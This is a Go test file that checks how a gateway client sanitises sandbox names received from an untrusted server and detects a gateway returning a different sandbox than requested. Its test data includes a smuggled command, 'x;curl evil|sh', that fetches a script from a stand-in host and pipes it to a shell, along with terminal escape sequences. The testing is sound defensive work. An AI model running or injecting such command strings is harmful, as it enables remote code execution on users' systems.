package client

import (
	"context"
	"strings"
	"testing"

	"google.golang.org/grpc"

	metav1 "creel/api/openshell/datamodel/v1"
	openshellv1 "creel/api/openshell/v1"
	"creel/internal/printable"
	"creel/internal/sandbox"
)

// A gateway of somebody else's may call a sandbox anything.
func TestNameFrom(t *testing.T) {
	for in, want := range map[string]string{
		"demo":                              "demo",
		"a-name-that-is-too-long-for-creel": "a-name-that-is-too-long-for-creel",
		"x;curl evil|sh":                    `"x;curl evil|sh"`,
		"--all":                             `"--all"`,
		"":                                  `""`,
		"x\x1b]0;t\x07\u009b2J\n":           `"x\ufffd2J\n"`,
	} {
		got := nameFrom(in)
		if strings.ContainsFunc(got, printable.Control) || got != want && !strings.Contains(in, "\x1b") {
			t.Errorf("%q is shown as %q, want %q", in, got, want)
		}
		if in != "demo" && sandbox.CheckName(got) == nil {
			t.Errorf("%q became a name: %q", in, got)
		}
	}
}

// liar answers every question with another sandbox.
type liar struct{ openshellv1.OpenShellClient }

func (liar) GetSandbox(context.Context, *openshellv1.GetSandboxRequest, ...grpc.CallOption) (*openshellv1.SandboxResponse, error) {
	return &openshellv1.SandboxResponse{Sandbox: &openshellv1.Sandbox{Metadata: &metav1.ObjectMeta{Name: "x;curl evil|sh"}}}, nil
}

func TestAnotherSandboxThanAskedFor(t *testing.T) {
	f := &foreign{c: &client{openshell: liar{}}}
	if all, err := f.Inspect(t.Context(), false, "demo"); err == nil || len(all) != 0 || !strings.Contains(err.Error(), `"x;curl evil|sh"`) {
		t.Errorf("%+v, %v", all, err)
	}
}
